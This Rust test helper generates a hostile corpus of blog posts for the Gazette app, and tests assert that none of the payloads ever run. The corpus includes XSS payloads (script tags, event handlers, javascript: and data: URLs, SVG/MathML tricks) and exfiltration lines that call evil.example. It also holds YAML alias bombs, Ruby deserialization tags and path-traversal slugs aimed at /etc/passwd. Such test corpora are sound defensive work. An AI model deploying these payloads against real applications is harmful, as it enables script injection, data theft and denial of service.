//! A hostile test corpus written for Gazette (issue 8): posts as bots
//! scrape them from the web, each carrying a payload that would hurt a user
//! if it ran or escaped: script, event handlers, `javascript:`/`data:` URLs,
//! SVG and MathML payloads, `<meta refresh>`, CSS `url()` exfiltration,
//! `<base>`, form actions, tracking pixels, crafted front matter (alias
//! bomb, `!ruby/object`, deep nesting), deep markup, a huge file, NUL bytes,
//! invalid UTF-8 and path-traversal slugs and permalinks.
//!
//! Every script payload does two things a test can see: it sets
//! `window.__pwned` and it asks the app to export the archive into the
//! `marker` folder (a real Tauri command that writes files). A test asserts
//! that neither happened.

use std::path::{Path, PathBuf};

/// What the app must do with one hostile file.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Expect {
    /// Imported, and shown with its payload made harmless.
    Imported,
    /// Refused at import with a clear reason.
    Refused,
}

/// One file of the hostile corpus.
#[derive(Debug, Clone)]
pub struct HostileFile {
    /// Where it was written.
    pub path: PathBuf,
    /// Its post title (for imported posts), to find it in the app.
    pub title: &'static str,
    /// Imported or refused.
    pub expect: Expect,
}

/// JavaScript that sets the marker and calls a command that writes files.
fn payload(marker: &Path, tag: &str) -> String {
    let target = marker.to_string_lossy().replace('\\', "/");
    format!(
        "window.__pwned='{tag}';window.__TAURI_INTERNALS__&&window.__TAURI_INTERNALS__.invoke('start_export',{{query:'',ids:null,target:{{kind:'folder',path:'{target}'}},options:{{format:'original',grouping:'flat',on_conflict:'overwrite'}}}})"
    )
}

/// Writes the hostile corpus into `dir` (created if needed) and returns its
/// files. Script payloads export into `marker` if they ever run; `marker`
/// itself is not created. `huge` adds a file over the default 50 MB import
/// limit (slow to write: leave it out where speed matters).
///
/// # Panics
/// When `dir` cannot be written.
pub fn write(dir: &Path, marker: &Path, huge: bool) -> Vec<HostileFile> {
    std::fs::create_dir_all(dir).expect("hostile corpus folder");
    let js = |tag: &str| payload(marker, tag);
    let attr = |tag: &str| js(tag).replace('\'', "&#39;");
    let mut files = Vec::new();
    let mut post = |name: &str, title: &'static str, text: String| {
        let path = dir.join(name);
        std::fs::write(&path, text).expect("hostile file");
        files.push(HostileFile {
            path,
            title,
            expect: Expect::Imported,
        });
    };
    post(
        "2024-01-01-script.html",
        "Hostile: script",
        format!(
            "---\ntitle: 'Hostile: script'\n---\n<p>script below</p><script>{}</script>\
             <SCRIPT SRC=https://evil.example/x.js></SCRIPT><p>after</p>\n",
            js("script")
        ),
    );
    post(
        "2024-01-02-handlers.html",
        "Hostile: event handlers",
        format!(
            "---\ntitle: 'Hostile: event handlers'\n---\n<img src=x onerror=\"{a}\">\
             <body onload=\"{b}\"><div onmouseover=\"{c}\">hover</div>\
             <details open ontoggle=\"{d}\"><summary>s</summary></details>\
             <video><source onerror=\"{e}\"></video><p>handlers done</p>\n",
            a = attr("onerror"),
            b = attr("onload"),
            c = attr("onmouseover"),
            d = attr("ontoggle"),
            e = attr("source")
        ),
    );
    post(
        "2024-01-03-urls.html",
        "Hostile: javascript and data URLs",
        format!(
            "---\ntitle: 'Hostile: javascript and data URLs'\n---\n\
             <a id=\"h1\" href=\"javascript:{a}\">js link</a> \
             <a id=\"h2\" href=\"JaVaScRiPt:{a}\">mixed case</a> \
             <a id=\"h3\" href=\"&#106;avascript:{a}\">entity</a> \
             <a id=\"h4\" href=\"data:text/html,&lt;script&gt;{a}&lt;/script&gt;\">data link</a>\
             <iframe src=\"javascript:{a}\"></iframe>\
             <object data=\"data:text/html,&lt;script&gt;{a}&lt;/script&gt;\"></object>\
             <embed src=\"data:text/html,&lt;script&gt;{a}&lt;/script&gt;\">\
             <img src=\"data:image/svg+xml,&lt;svg onload=&quot;{a}&quot;&gt;\"><p>urls done</p>\n",
            a = attr("url")
        ),
    );
    post(
        "2024-01-04-svg-mathml.html",
        "Hostile: SVG and MathML",
        format!(
            "---\ntitle: 'Hostile: SVG and MathML'\n---\n\
             <svg onload=\"{a}\"><script>{s}</script><animate onbegin=\"{a}\" attributeName=x dur=1s/>\
             <foreignObject><iframe srcdoc=\"&lt;script&gt;{a}&lt;/script&gt;\"></iframe></foreignObject></svg>\
             <math><mtext><table><mglyph><style><img src=x onerror=\"{a}\"></style></mglyph></table></mtext></math>\
             <noscript><p title=\"</noscript><img src=x onerror={a}>\"></p></noscript><p>svg done</p>\n",
            a = attr("svg"),
            s = js("svg-script")
        ),
    );
    post(
        "2024-01-05-meta-base-form.html",
        "Hostile: meta, base and form",
        format!(
            "---\ntitle: 'Hostile: meta, base and form'\n---\n\
             <meta http-equiv=\"refresh\" content=\"0;url=javascript:{a}\">\
             <meta http-equiv=\"refresh\" content=\"0;url=https://evil.example/\">\
             <base href=\"https://evil.example/\"><a id=\"rel\" href=\"page.html\">relative</a>\
             <form action=\"https://evil.example/steal\"><input name=q value=secret>\
             <button formaction=\"javascript:{a}\">go</button></form><p>meta done</p>\n",
            a = attr("meta")
        ),
    );
    post(
        "2024-01-06-css.html",
        "Hostile: CSS exfiltration",
        "---\ntitle: 'Hostile: CSS exfiltration'\n---\n\
         <style>body{background:url(https://evil.example/style-leak)}</style>\
         <div style=\"background:url(https://evil.example/inline-leak)\">styled</div>\
         <link rel=stylesheet href=\"https://evil.example/x.css\">\
         <p>css done</p>\n"
            .to_string(),
    );
    post(
        "2024-01-07-markdown.md",
        "Hostile: Markdown",
        format!(
            "---\ntitle: 'Hostile: Markdown'\n---\n[click](javascript:{a})\n\n\
             ![pixel](https://tracker.example/pixel.gif)\n\n<script>{s}</script>\n\n\
             <img src=x onerror=\"{a}\">\n\nmarkdown done\n",
            a = attr("markdown"),
            s = js("markdown-script")
        ),
    );
    post(
        "2024-01-08-title.md",
        "<img src=x onerror=alert(1)> title",
        format!(
            "---\ntitle: \"<img src=x onerror={a}> title\"\ntags: [\"<script>{a}</script>\"]\n---\nbody with a script in its text: &lt;script&gt; and <b>{}</b>\n",
            "&lt;/mark&gt;&lt;script&gt;",
            a = js("title").replace('"', "\\\"")
        ),
    );
    post(
        "2024-01-09-traversal.md",
        "Hostile: path traversal",
        "---\ntitle: ../../../../etc/passwd\nslug: ../../../outside\npermalink: /../../../../tmp/outside/\ncategories: [\"../..\", \"CON\", \"a/b\"]\n---\nthe slug, permalink and categories try to leave the folder\n"
            .to_string(),
    );
    post(
        "..%2F..%2F2024-01-10-CON. .md",
        "Hostile: device name",
        "---\ntitle: 'CON'\ndate: 2024-01-10\n---\nnamed like a Windows device, with trailing dot and space\n"
            .to_string(),
    );
    post(
        "2024-01-11-deep.html",
        "Hostile: deep nesting",
        format!(
            "---\ntitle: 'Hostile: deep nesting'\n---\n{}deep{}\n",
            "<div>".repeat(100_000),
            "</div>".repeat(100_000)
        ),
    );
    post(
        "2024-01-12-malformed.html",
        "Hostile: malformed markup",
        format!(
            "---\ntitle: 'Hostile: malformed markup'\n---\n<p><b><i>unclosed<table><td><tr>\
             </p></div></span><a href=\"x<img src=x onerror='{a}'>\">\
             <!-- <script>{s}</script> --><![CDATA[<script>{s}</script>]]><p>malformed done\n",
            a = attr("malformed"),
            s = js("malformed-script")
        ),
    );
    let mut big = String::from("---\ntitle: 'Hostile: big body'\n---\n");
    while big.len() < 6 * 1024 * 1024 {
        big.push_str(
            "<p>大量的文字 lots of text <b>bold</b> <a href=\"https://example.com\">link</a></p>\n",
        );
    }
    post("2024-01-13-big.html", "Hostile: big body", big);

    let mut refused = |name: &str, bytes: Vec<u8>| {
        let path = dir.join(name);
        std::fs::write(&path, bytes).expect("hostile file");
        files.push(HostileFile {
            path,
            title: "",
            expect: Expect::Refused,
        });
    };
    let mut bomb = String::from("---\ntitle: bomb\na: &a [\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\",\"lol\"]\n");
    for (i, prev) in ["b", "c", "d", "e", "f", "g", "h", "i"]
        .iter()
        .zip(["a", "b", "c", "d", "e", "f", "g", "h"])
    {
        bomb.push_str(&format!(
            "{i}: &{i} [*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev},*{prev}]\n"
        ));
    }
    bomb.push_str("---\nbody\n");
    refused("2024-02-01-alias-bomb.md", bomb.into_bytes());
    refused(
        "2024-02-02-ruby-object.md",
        b"---\ntitle: x\nobj: !ruby/object:Gem::Installer\n  i: x\n---\nbody\n".to_vec(),
    );
    refused(
        "2024-02-03-ruby-hash.md",
        b"---\ntitle: x\nh: !ruby/hash:ActionController::Parameters {a: 1}\n---\nbody\n".to_vec(),
    );
    refused(
        "2024-02-04-deep-yaml.md",
        format!(
            "---\ntitle: x\nd: {}{}\n---\nbody\n",
            "[".repeat(10_000),
            "]".repeat(10_000)
        )
        .into_bytes(),
    );
    refused(
        "2024-02-05-nul.md",
        b"---\ntitle: nul\n---\nbefore\0after\0\0\0binary\n".to_vec(),
    );
    refused(
        "2024-02-06-invalid-utf8.md",
        [
            b"---\ntitle: bad\n---\n".as_slice(),
            &[
                0xff, 0xfe, 0xc3, 0x28, 0xa0, 0xa1, 0xe2, 0x28, 0xa1, 0xf0, 0x28, 0x8c, 0xbc, 0x80,
                0x81,
            ],
            b"\n",
        ]
        .concat(),
    );
    if huge {
        let mut text = b"---\ntitle: huge\n---\n".to_vec();
        text.resize(51 * 1024 * 1024, b'a');
        refused("2024-02-07-huge.md", text);
    }
    files
}
